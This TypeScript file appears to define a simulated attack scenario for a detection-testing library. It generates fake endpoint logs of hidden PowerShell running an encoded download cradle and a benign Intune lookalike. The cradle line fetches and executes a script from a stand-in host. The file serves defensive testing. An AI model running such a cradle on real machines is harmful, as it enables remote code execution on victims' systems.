import { at, iso, type LibraryScenario } from '../attack-context.ts';
import { sha256Of } from '../endpoint-rows.ts';
import { addDeviceProcess } from '../process-rows.ts';
import { floorTo, HOUR, MINUTE } from '../time-grid.ts';

/** PowerShell's -EncodedCommand takes UTF-16LE text in Base64. */
const encode = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
const POWERSHELL = 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe';

/** A shortcut file from a phishing archive starts hidden PowerShell with an encoded download cradle. */
export const encodedPowershell: LibraryScenario = {
  kind: 'encoded-powershell',
  loosened: { ignoredParents: 'none' },
  attack: ({ logs, org, victim, end }) => {
    const time = floorTo(end - 10 * HOUR, MINUTE);
    const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.office-update.example/a.ps1')";
    addDeviceProcess(logs, org, {
      time: at(time),
      device: victim.workstation,
      fileName: 'powershell.exe',
      commandLine: `powershell.exe -nop -w hidden -enc ${encode(cradle)}`,
      folderPath: POWERSHELL,
      sha256: sha256Of('powershell.exe'),
      parent: { fileName: 'explorer.exe', commandLine: 'C:\\Windows\\Explorer.EXE', accountName: victim.samName },
    });
    return {
      account: victim.samName,
      host: victim.workstation.fqdn,
      start: iso(time),
      end: iso(time),
      description: `Encoded PowerShell download cradle started from a shortcut on ${victim.workstation.name}.`,
    };
  },
  lookalike: ({ logs, org, bystander, end }) => {
    // Intune's management extension runs every remediation script as an encoded command.
    const script = "Get-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' | ConvertTo-Json";
    addDeviceProcess(logs, org, {
      time: at(floorTo(end - 15 * HOUR, MINUTE)),
      device: bystander.workstation,
      fileName: 'powershell.exe',
      commandLine: `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${encode(script)}`,
      folderPath: POWERSHELL,
      sha256: sha256Of('powershell.exe'),
      parent: {
        fileName: 'AgentExecutor.exe',
        commandLine: '"AgentExecutor.exe" -remediationScript',
        folderPath: 'c:\\program files (x86)\\microsoft intune management extension\\agentexecutor.exe',
        accountName: 'system',
      },
    });
    return {
      kind: 'intune-remediation-script',
      account: 'system',
      description: "Intune's management extension running a remediation script as an encoded command.",
    };
  },
};
